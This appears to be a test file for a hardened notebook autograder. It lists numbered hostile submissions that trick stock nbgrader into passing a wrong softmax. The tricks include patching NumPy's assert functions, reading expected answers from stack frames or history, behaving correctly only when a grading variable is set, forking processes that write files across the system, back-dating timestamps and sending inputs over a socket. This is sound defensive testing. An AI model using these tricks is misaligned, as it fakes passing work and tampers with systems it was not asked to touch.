"""Cheats that get full marks for wrong code from stock nbgrader: numbers 2 to 22 of the catalogue."""

from tests.hostile.attack import RIGHT_SOFTMAX, WRONG, attack

CHEATS = [
    attack("2", "shows a number in the function", """
        import sys
        def softmax(a):
            sys.displayhook(4)
            get_ipython().displayhook(4)
            display(4)
            return a
        """),
    attack("3", "rewrites the syntax tree of later cells", """
        import ast
        class Always(ast.NodeTransformer):
            def visit_Module(self, node):
                return ast.parse("4")
        get_ipython().ast_transformers.append(Always())
        """, WRONG),
    attack("4", "rewrites the text of later cells", """
        get_ipython().input_transformers_cleanup.append(lambda lines: ["4\\n"])
        """, WRONG),
    attack("5", "replaces run_code", """
        shell = get_ipython()
        async def run_code(*args, **kwargs):
            return False
        shell.run_code = run_code
        shell.run_cell_async = run_code
        """, WRONG),
    attack("6", "patches the comparisons of NumPy", """
        np.testing.assert_allclose = lambda *args, **kwargs: None
        np.testing.assert_array_equal = lambda *args, **kwargs: None
        np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
        """, WRONG, says="wrong"),
    attack("7", "binds np to an object that is always true", """
        class Yes:
            def __getattr__(self, name): return self
            def __call__(self, *args, **kwargs): return self
            def __eq__(self, other): return True
            def __bool__(self): return True
        np = Yes()
        def softmax(a):
            return np
        """, says="not Yes"),
    attack("8", "returns a subclass that equals everything", """
        class Equal(np.ndarray):
            def __array_ufunc__(self, *args, **kwargs): return True
            def __array_function__(self, *args, **kwargs): return True
            def __eq__(self, other): return True
        def softmax(a):
            return a.view(Equal)
        """, says="not Equal"),
    attack("9", "patches the random generator", """
        np.random.default_rng = lambda *args: np.random.RandomState(0)
        np.random.seed(0)
        """, WRONG),
    attack("10", "reads expected values in the caller's frame", """
        import sys
        def softmax(a):
            frame = sys._getframe()
            while frame:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if name in ("expected", "wanted", "reference", "solution", "answer"):
                        return value(a) if callable(value) else value
                frame = frame.f_back
            return a
        """),
    attack("11", "changes expected values in place", """
        import gc
        def softmax(a):
            for thing in gc.get_objects():
                if type(thing) is np.ndarray and thing is not a and thing.flags.writeable:
                    thing[...] = 0
            return np.zeros_like(a)
        """),
    attack("12", "overwrites its input after use", RIGHT_SOFTMAX.replace("return e / e.sum(axis=-1, keepdims=True)", """p = e / e.sum(axis=-1, keepdims=True)
    a[...] = 0
    return p"""), says="changed its input"),
    attack("13", "returns a view of its input that changes later", """
        import threading, time
        def softmax(a):
            threading.Thread(target=lambda: (time.sleep(0.01), a.fill(0))).start()
            return a[...]
        """),
    attack("14", "reads hidden tests in the history", """
        def softmax(a):
            text = repr(globals().get("In")) + repr(get_ipython().history_manager.input_hist_raw)
            assert "exp" + "ected" in text, "nothing there"
            return a
        """, says="nothing there"),
    attack("15", "looks for the source notebook", """
        import pathlib
        def softmax(a):
            for folder in (".", "..", "../..", "/work", "/home", "/root", "/srv", "/mnt", "/var", "/tmp"):
                for pattern in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb"):
                    for path in pathlib.Path(folder).glob(pattern):
                        return path.read_text()
            raise FileNotFoundError("no notebook anywhere")
        """, says="no notebook anywhere"),
    attack("16", "looks for the reference in memory and on disk", """
        import gc, sys, types
        def softmax(a):
            own = softmax.__code__
            for thing in gc.get_objects():
                if isinstance(thing, types.FunctionType) and thing.__name__ == "softmax" and thing.__code__ is not own:
                    return thing(a)
            import unrolled.reference
            return unrolled.reference.softmax(a)
        """, says="unrolled.reference"),
    attack("16", "imports the checker", """
        from unrolled.comparison import EXERCISES
        def softmax(a):
            return EXERCISES["softmax"].reference(a)
        """, says="unrolled.comparison"),
    attack("17", "behaves well only when it is being graded", """
        import os
        def softmax(a):
            if os.environ.get("NBGRADER_EXECUTION"):
                return np.exp(a - a.max(-1, keepdims=True)) / np.exp(a - a.max(-1, keepdims=True)).sum(-1, keepdims=True)
            return a
        """),
    attack("18", "brings its own numpy", """
        import os, sys
        os.makedirs("numpy", exist_ok=True)
        open("numpy/__init__.py", "w").write("class ndarray: pass")
        sys.path.insert(0, os.getcwd())
        sys.modules.pop("numpy")
        """, WRONG),
    attack("19", "leaves a process behind that writes everywhere", """
        import os, subprocess
        subprocess.Popen(["/bin/sh", "-c", "sleep 1; for f in / /tmp /usr /dev/shm /root; do echo hacked > $f/hacked; done"],
                         start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    open("/tmp/hacked", "w").write("gradebook.db")
            os._exit(0)
        """, WRONG),
    attack("20", "back-dates its timestamp", """
        import os, pathlib
        for folder in (".", "..", "/tmp", "/"):
            try:
                pathlib.Path(folder, "timestamp.txt").write_text("1999-01-01 00:00:00 UTC")
            except OSError:
                pass
        """, WRONG),
    attack("21", "calls another library", """
        def softmax(a):
            from scipy.special import softmax as theirs
            return theirs(a, axis=-1)
        """, says="No module named 'scipy'"),
    attack("21", "calls another library that lies on the machine", """
        import sys
        def softmax(a):
            import glob
            for pattern in ("/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages", sys.prefix + "/lib/*/*-packages"):
                sys.path += glob.glob(pattern)
            import torch
            return torch.softmax(torch.from_numpy(a), -1).numpy()
        """, says="No module named 'torch'"),
    attack("22", "sends its inputs over the network", """
        import socket
        def softmax(a):
            socket.create_connection(("1.1.1.1", 53), timeout=1).sendall(a.tobytes())
            return a
        """, says="Operation not permitted"),
]
